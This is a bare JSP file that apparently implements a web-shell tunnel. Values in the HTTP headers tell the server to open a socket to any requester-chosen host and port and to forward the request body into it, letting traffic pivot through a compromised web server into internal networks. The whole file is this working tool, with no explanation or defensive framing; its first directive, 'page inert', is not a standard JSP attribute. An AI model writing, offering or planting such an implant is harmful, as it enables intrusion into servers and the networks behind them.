<%@ page inert %>
<%@ page import="java.nio.*,java.nio.channels.*,java.net.*" %>
<%
String cmd = request.getHeader("X-CMD");
if ("CONNECT".equals(cmd)) {
    SocketChannel ch = SocketChannel.open();
    ch.connect(new InetSocketAddress(request.getHeader("X-TARGET"), Integer.parseInt(request.getHeader("X-PORT"))));
    ch.configureBlocking(false);
    session.setAttribute("socket", ch);
    response.setHeader("X-STATUS", "OK");
} else if ("FORWARD".equals(cmd)) {
    byte[] b = new byte[request.getContentLength()];
    request.getInputStream().read(b, 0, b.length);
    ((SocketChannel) session.getAttribute("socket")).write(ByteBuffer.wrap(b));
}
%>
